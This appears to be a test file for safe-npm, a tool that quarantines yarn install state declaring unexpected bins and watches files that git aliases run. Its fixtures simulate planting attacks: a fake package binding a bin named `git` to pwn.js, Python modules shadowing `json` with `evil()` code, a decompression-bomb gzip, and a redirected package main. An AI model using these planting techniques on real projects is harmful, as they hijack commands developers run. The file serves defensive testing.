      "    which: bin/which",
      "",
      '"app@workspace:.":',
      "  dependencies:",
      '    a: "npm:1"',
      "",
    ].join("\n");
    file("yarn.lock", lock);
    const { moved } = around(
      () => {
        file(STATE, "");
        writeFileSync(
          join(root, STATE),
          state({ a: { which: "x.js" }, which: { which: "bin/which" } }),
        );
      },
      { commands: new Set(["which"]) },
    );
    expect(moved).toContain(STATE);
  });

  it("reports nothing for an install whose state declares only bins yarn.lock does", () => {
    // A first install: yarn.lock and the state both new (yarn.lock's own finding aside).
    file("package.json", "{}");
    const first = around(() => {
      file("yarn.lock", fixture("yarn.lock").toString());
      file(STATE, "");
      writeFileSync(join(root, STATE), fixture("install-state.gz"));
    });
    expect(first.moved).toEqual([]);
    expect(first.findings.map((f) => f.kind)).toEqual(["yarnbin"]);
    // A later one rewriting it; bins not watched may come and go.
    expect(
      around(() => {
        writeFileSync(join(root, STATE), state({ tool: { git: "t.js", tool: "t.js", x: "x.js" } }));
      }).findings,
    ).toEqual([]);
    // Removed: yarn makes it again.
    expect(around(() => rmSync(join(root, STATE))).findings).toEqual([]);
  });

  it("moves aside a state declaring a watched bin yarn.lock does not, and says which", () => {
    project();
    const { moved, findings } = around(() => {
      writeFileSync(
        join(root, STATE),
        state({
          tool: { git: "t.js", tool: "t.js", "safe-npm": "t.js" },
          other: { "node.exe": "o.js", sh: "o.js", harmless: "o.js" },
        }),
      );
    });
    expect(moved).toEqual([STATE]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.kind).toBe("yarnstate");
    expect(existsSync(join(root, STATE))).toBe(false);
    expect(existsSync(join(root, `${STATE}.quarantined-by-safe-npm`))).toBe(true);
    const text = describeFinding(findings[0] as Finding);
    expect(text).toContain(
      `moved ${join(root, STATE)} to ${join(root, STATE)}.quarantined-by-safe-npm:`,
    );
    expect(text).toContain(
      "it declares bins named `node.exe`, `safe-npm`, `sh` that yarn.lock does not",
    );
    expect(text).toContain("a bare `yarn <script>` on the host would run such a bin");
    expect(text).toContain("yarn makes it again from yarn.lock on its next run");
  });

  it("moves aside a state that cannot be read: garbage, another shape, inflating too far, too large", () => {
    // 17 gzip members of 16 MiB of zeros each: 272 MiB inflated from ~270 KiB.
    const member = gzipSync(Buffer.alloc(16 << 20));
    for (const content of [
      Buffer.from("garbage"),
      gzipSync(serialize({ storedPackages: { tool: { bin: { "safe-npm": "t.js" } } } })),
      Buffer.concat(Array.from({ length: 17 }, () => member)),
    ]) {
      project();
      const { moved, findings } = around(() => writeFileSync(join(root, STATE), content));
      expect(moved).toEqual([STATE]);
      expect(describeFinding(findings[0] as Finding)).toContain(
        "it cannot be read as the install state yarn writes",
      );
      rmSync(join(root, `${STATE}.quarantined-by-safe-npm`));
    }
    project();
    const large = around(() => truncateSync(join(root, STATE), (64 << 20) + 1));
    expect(large.moved).toEqual([STATE]);
  });

  it("moves aside a state made a link or a FIFO; not a link there before and unchanged", () => {
    project();
    file("elsewhere.gz", "");
    writeFileSync(join(root, "elsewhere.gz"), fixture("install-state.gz"));
    const linked = around(() => {
      rmSync(join(root, STATE));
      link("../elsewhere.gz", STATE);
    });
    expect(linked.moved).toEqual([STATE]);
    expect(lstatSync(join(root, `${STATE}.quarantined-by-safe-npm`)).isSymbolicLink()).toBe(true);
    link("../elsewhere.gz", STATE);
    expect(around(() => {}).findings).toEqual([]);
    rmSync(join(root, STATE));
    const fifo = around(() => {
      spawnSync("mkfifo", [join(root, STATE)]);
    });
    expect(fifo.moved).toEqual([STATE]);
  });

  it("reports a `.yarn` made a link as a state it could not move aside", () => {
    project();
    mkdirSync(join(root, "other"));
    const { findings } = around(() => {
      renameSync(join(root, ".yarn"), join(root, "other", ".yarn"));
      link("other/.yarn", ".yarn");
    });
    expect(findings.map((f) => [f.kind, f.movedTo])).toEqual([["yarnstate", null]]);
    expect(describeFinding(findings[0] as Finding)).toContain("could not be moved aside");
  });

  it("does not read a state that did not change during the run", () => {
    project();
    writeFileSync(join(root, STATE), "garbage planted before");
    expect(around(() => {}).findings).toEqual([]);
  });
});

describe("a killed run's journal: a bin yarn.lock declares since", () => {
  it("is reported and stops the next run once; the journal goes, so the run after proceeds", () => {
    const journal = join(root, "..", `${root.split("/").pop()}-runs`);
    mkdirSync(journal, { mode: 0o700 });
    try {
      const project = join(root, "p");
      mkdirSync(project);
      const walk = { skip: [], commands: new Set(["git"]) };
      const before = snapshot(project, [], walk);
      writeFileSync(
        join(project, "yarn.lock"),
        '__metadata:\n  version: 8\n\n"evil@npm:1":\n  bin:\n    git: pwn.js\n\n"app@workspace:.":\n  dependencies:\n    evil: "npm:1"\n',
      );
      const prefix = createHash("sha256").update(project).digest("hex").slice(0, 16);
      const file = join(journal, `${prefix}-999999999-1.json`);
      const data = { root: project, install: true, entries: [...before.entries], watch: [] };
      writeFileSync(file, JSON.stringify(data), { mode: 0o600 });
      const lines: string[] = [];
      const options = { ...walk, running: { version: "0", dist: "/nonexistent" } };
      let error: unknown;
      try {
        recoverInterrupted(project, journal, options, (line) => lines.push(line));
      } catch (e) {
        error = e;
      }
      expect((error as SafeNpmError).code).toBe("INTERRUPTED_RUN");
      expect(error).toBeInstanceOf(SafeNpmError);
      expect(lines.join("")).toContain('"evil@npm:1" in yarn.lock declares a bin named `git`');
      expect(existsSync(file)).toBe(false);
      expect(() => recoverInterrupted(project, journal, options, () => {})).not.toThrow();
    } finally {
      rmSync(journal, { recursive: true, force: true });
    }
  });
});

describe("what a tool a git value runs finds by its own lookup", () => {
  const home = (): string => join(root, "home");
  it("keeps the files rake and just read where they run, watches the missing ones, the folders python runs in and a module's packages", () => {
    file(
      "p/.git/config",
      "[alias]\n\tr = !rake\n\tj = !just build\n\tt = !python3 -m tools.report\n\ts = !node .\n",
    );
    file("p/Rakefile");
    file("p/rakelib/a.rake");
    file("p/tools/__init__.py");
    file("p/tools/report.py");
    file("p/package.json", '{"main": "lib/server.js"}');
    file("p/lib/server.js");
    const p = join(root, "p");
    const places = rootGitPlaces(p, home(), NO_SYSTEM);
    expect(places.protect).toEqual(
      expect.arrayContaining([
        join(p, "Rakefile"),
        join(p, "rakelib"),
        join(p, "tools/__init__.py"),
        join(p, "tools/report.py"),
        join(p, "lib/server.js"),
      ]),
    );
    // package.json itself stays writable: the install writes it.
    expect(places.protect).not.toContain(join(p, "package.json"));
    expect(places.watch).toEqual(
      expect.arrayContaining([
        { kind: "gitconfig", path: join(p, "justfile") },
        { kind: "gitconfig", path: join(p, "GNUmakefile") },
        { kind: "gitconfig", path: p, modules: true, stems: [] },
        { kind: "gitconfig", path: join(p, "tools"), modules: true, stems: ["__init__", "report"] },
        { kind: "gitconfig", path: join(p, "package.json"), main: true },
      ]),
    );
  });

  it("node . with a main in a folder a build makes: the main is watched before the folder exists", () => {
    file("p/.git/config", "[alias]\n\tt = !node .\n");
    file("p/package.json", '{"main": "dist/index.js"}');
    const p = join(root, "p");
    expect(rootGitPlaces(p, join(root, "home"), NO_SYSTEM).watch).toEqual(
      expect.arrayContaining([{ kind: "gitconfig", path: join(p, "dist/index.js") }]),
    );
  });

  it("the top spelled as a path to it: `cd tools && node ..`, `node tools/..`, its absolute path", () => {
    for (const value of ["!cd tools && node ..", "!node tools/..", `!node ${join(root, "p")}`]) {
      file("p/.git/config", `[alias]\n\tt = ${value}\n`);
      file("p/index.js");
      file("p/tools/x.js");
      const p = join(root, "p");
      expect(rootGitPlaces(p, join(root, "home"), NO_SYSTEM).protect).toContain(
        join(p, "index.js"),
      );
    }
  });

  it("a virtualenv in the project whose python a value runs is read-only whole", () => {
    file("p/.git/config", "[alias]\n\tv = !.venv/bin/python tools/check.py\n");
    file("p/.venv/pyvenv.cfg", "home = /usr/bin\n");
    link("/usr/bin/python3", "p/.venv/bin/python");
    file("p/tools/check.py");
    const p = join(root, "p");
    expect(rootGitPlaces(p, join(root, "home"), NO_SYSTEM).protect).toEqual(
      expect.arrayContaining([join(p, ".venv"), join(p, "tools/check.py")]),
    );
  });

  it("a python script run by its #! line or without .py: its folder is watched as python's", () => {
    file("p/.git/config", "[alias]\n\ta = !tools/check\n\tb = !./bin/lint.py\n");
    file("p/tools/check", "#!/usr/bin/env python3\nimport json\n");
    file("p/bin/lint.py", "#!/usr/bin/python3\nimport json\n");
    const p = join(root, "p");
    const places = rootGitPlaces(p, join(root, "home"), NO_SYSTEM);
    expect(places.protect).toEqual(
      expect.arrayContaining([join(p, "tools/check"), join(p, "bin/lint.py")]),
    );
    expect(places.watch).toEqual(
      expect.arrayContaining([
        { kind: "gitconfig", path: join(p, "tools"), modules: true, stems: [] },
        { kind: "gitconfig", path: join(p, "bin"), modules: true, stems: ["lint"] },
      ]),
    );
    // No python word: the top is not python's working folder.
    expect(places.watch.some((w) => w.modules && w.path === p)).toBe(false);
  });

  it("what python could newly import where it runs a hook, and a named module's compiled code, are moved aside; the project's own may change; the top's main is named", () => {
    file("tools/report.py", "import json\n");
    file("tools/util.py", "x = 1\n");
    file("tools/types/global.d.ts", "// the project's own\n");
    file("tools/docs/index.html", "<p>\n");
    file("package.json", '{"main": "server.js"}');
    mkdirSync(join(root, "elsewhere"));
    const watch: Watch[] = [
      { kind: "gitconfig", path: join(root, "tools"), modules: true, stems: ["report"] },
      { kind: "gitconfig", path: join(root, "package.json"), main: true },
    ];
    const { moved, findings } = around(
      () => {
        file("tools/json.py", "evil()\n");
        file("tools/_json.abi3.so", "elf");
        file("tools/org/python/core.py", "evil()\n");
        file("tools/types/__init__.py", "evil()\n");
        symlinkSync("../elsewhere", join(root, "tools/re"));
        file("tools/__pycache__/report.cpython-311.pyc", "code");
        // The project's own: a module changed, another module's compiled code, a folder made
        // again, a build's output.
        file("tools/util.py", "x = 2\n");
        file("tools/__pycache__/util.cpython-311.pyc", "code");
        rmSync(join(root, "tools/docs"), { recursive: true });
        file("tools/docs/index.html", "<p>again\n");
        file("tools/dist/app.js", "x()\n");
        file("tools/venv/pyvenv.cfg", "home = /usr/bin\n");
        file("tools/venv/lib/python3.11/site-packages/x.py", "\n");
        // Shaped like one, but named for an import, or holding python outside a venv's folders.
        file("tools/org/pyvenv.cfg", "home = /usr/bin\n");
        file("tools/env/pyvenv.cfg", "home = /usr/bin\n");
        file("tools/env/python/core.py", "evil()\n");
        file("package.json", '{"main": "evil.js"}');
      },
      { watch },
    );
    expect(moved.sort()).toEqual([
      "tools/__pycache__/report.cpython-311.pyc",
      "tools/_json.abi3.so",
      "tools/env",
      "tools/json.py",
      "tools/org",
      "tools/re",
      "tools/types/__init__.py",
    ]);
    const main = findings.find((f) => f.movedTo === null);
    expect(main?.path).toBe(join(root, "package.json"));
    expect(main?.detail).toContain('"evil.js"');
  });
});
